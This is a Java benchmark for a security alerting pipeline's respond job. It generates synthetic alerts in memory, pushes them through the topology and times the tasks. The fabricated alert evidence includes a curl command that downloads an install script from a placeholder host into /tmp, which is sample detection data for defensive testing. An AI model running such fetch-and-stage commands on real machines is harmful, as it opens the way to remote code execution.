package io.weir.jobs.bench;

import io.weir.connectors.kafka.IntelRecord;
import io.weir.jobs.respond.AcknowledgementRecord;
import io.weir.jobs.respond.AlertSerializer;
import io.weir.jobs.respond.AskForResponses;
import io.weir.jobs.respond.AssessmentSources;
import io.weir.jobs.respond.CommandRecord;
import io.weir.jobs.respond.KeySource;
import io.weir.jobs.respond.RespondTopology;
import io.weir.rules.alert.Alert;
import io.weir.rules.alert.DerivedId;
import io.weir.rules.alert.Severity;
import io.weir.rules.condition.Evidence;
import io.weir.rules.incident.StoryRules;
import io.weir.rules.library.RuleFiles;
import io.weir.rules.playbook.Allowlist;
import io.weir.rules.playbook.PlaybookReader;
import io.weir.rules.playbook.ResponseLimits;
import org.apache.flink.api.common.eventtime.WatermarkStrategy;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.streaming.api.datastream.DataStream;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.streaming.api.functions.sink.v2.DiscardingSink;

import java.time.Duration;
import java.util.List;
import java.util.Map;

/**
 * The respond job in this process, one task of each kind, over made-up alerts from memory: no brokers, no providers, no
 * checkpoints, no documents written.
 *
 * @param alerts how many
 * @param entities how many addresses act; each tenth of them in a way that makes an incident
 */
public record RespondLoad(long alerts, int entities) {
    private static final long START = 1_767_225_600_000L;
    private static final long ALERTS_PER_SECOND = 2_000;
    private static final List<String> TACTICS =
            List.of("credential-access", "initial-access", "execution", "discovery", "lateral-movement");

    /** Says how much CPU time its tasks took, by their names. */
    public Map<String, Duration> run() throws Exception {
        StreamExecutionEnvironment environment = environment();
        DataStream<Alert> alerts = alerts(environment);
        var outputs = RespondTopology.build(
                alerts,
                nothing(alerts, "commands", CommandRecord.class),
                nothing(alerts, "lists", IntelRecord.class),
                nothing(alerts, "acknowledgements", AcknowledgementRecord.class),
                settings());
        discard(outputs.alertDocuments(), "alert-documents");
        discard(outputs.incidents(), "incidents");
        discard(outputs.responses(), "responses");
        discard(outputs.responseDocuments(), "response-documents");
        discard(outputs.answers(), "answers");
        discard(outputs.deadLetters(), "dead-letters");
        return timed(environment, "Weir respond");
    }

    /** The same alerts, which go to another task and are forgotten there. */
    public Map<String, Duration> runBare() throws Exception {
        StreamExecutionEnvironment environment = environment();
        discard(
                alerts(environment)
                        .keyBy(Alert::id)
                        .map(alert -> alert)
                        .returns(AlertSerializer.TYPE)
                        .uid("pass")
                        .name("Pass"),
                "alerts");
        return timed(environment, "Bare alerts");
    }

    private static Map<String, Duration> timed(StreamExecutionEnvironment environment, String name) throws Exception {
        try (TaskTimes times = TaskTimes.start()) {
            environment.execute(name);
            return times.byTask();
        }
    }

    private static StreamExecutionEnvironment environment() {
        Configuration configuration = Configuration.fromMap(Map.of(
                "pipeline.generic-types", "false",
                "pipeline.auto-generate-uids", "false",
                "pipeline.object-reuse", "true",
                "restart-strategy.type", "none"));
        return StreamExecutionEnvironment.createLocalEnvironment(1, configuration);
    }

    private DataStream<Alert> alerts(StreamExecutionEnvironment environment) {
        int acting = entities;
        return environment
                .fromSequence(0, alerts - 1)
                .uid("numbers")
                .map(number -> alert(number, acting))
                .returns(AlertSerializer.TYPE)
                .uid("make-alerts")
                .name("Make alerts")
                .assignTimestampsAndWatermarks(WatermarkStrategy.<Alert>forBoundedOutOfOrderness(Duration.ofSeconds(1))
                        .withTimestampAssigner((alert, before) -> alert.timeMillis()))
                .uid("alert-times");
    }

    /** A stream whose time is that of the alerts, so that nobody waits for it. */
    private static <T> DataStream<T> nothing(DataStream<Alert> alerts, String what, Class<T> type) {
        return alerts.<T>flatMap((alert, out) -> {})
                .returns(TypeInformation.of(type))
                .uid("no-" + what)
                .name("No " + what);
    }

    private static <T> void discard(DataStream<T> stream, String what) {
        stream.sinkTo(new DiscardingSink<>()).uid("discard-" + what).name("Discard " + what);
    }

    private static RespondTopology.Settings settings() {
        return new RespondTopology.Settings(
                AssessmentSources.BUILT_IN,
                Map::of,
                Duration.ofDays(7),
                StoryRules.DEFAULT,
                new AskForResponses.Policy(
                        PlaybookReader.read(RuleFiles.bundledPlaybooks()),
                        Allowlist.BUILT_IN,
                        ResponseLimits.DEFAULT,
                        KeySource.NONE));
    }

    /** The same alert for the same number; the second round of alerts about an entity is of versions of the first. */
    private static Alert alert(long number, int entities) {
        long entity = number % entities;
        long round = number / entities;
        long time = START + number * 1_000 / ALERTS_PER_SECOND;
        int rule = (int) (entity % 10 == 0 ? round / 2 % 5 : entity % 97);
        String address = "198." + (18 + entity / 65_536 % 2) + "." + entity / 256 % 256 + "." + entity % 256;
        String target = "10.20." + entity % 7 + "." + number % 50;
        long version = 1 + round % 2;
        return new Alert(
                DerivedId.of("default", address, Integer.toString(rule), Long.toString(round / 2)),
                version,
                "default",
                time,
                "rule-" + rule,
                "Made-up rule " + rule,
                "2026-11-21",
                rule % 3 == 0 ? Severity.HIGH : Severity.MEDIUM,
                5 * version,
                version - 1,
                time,
                time,
                false,
                Map.of("source.ip", address),
                Map.of(
                        "source.ip",
                        address,
                        "destination.ip",
                        target,
                        "host.name",
                        "web-" + number % 20,
                        "user.name",
                        "user-" + number % 400),
                List.of(TACTICS.get(rule % TACTICS.size())),
                List.of("T1110.001"),
                List.of(
                        new Evidence("event.outcome", "failure", "equals failure"),
                        new Evidence(
                                "process.command_line",
                                "curl -fsSL http://files" + number % 300 + ".bench.com/install.sh -o /tmp/install.sh",
                                "contains curl")),
                List.of("telemetry.auth-0-" + number, "telemetry.auth-1-" + number),
                List.of(),
                Map.of("created", time, "ingested", time, "detected", time + 20, "emitted", time + 21),
                List.of(target),
                Alert.NO_RISK);
    }
}
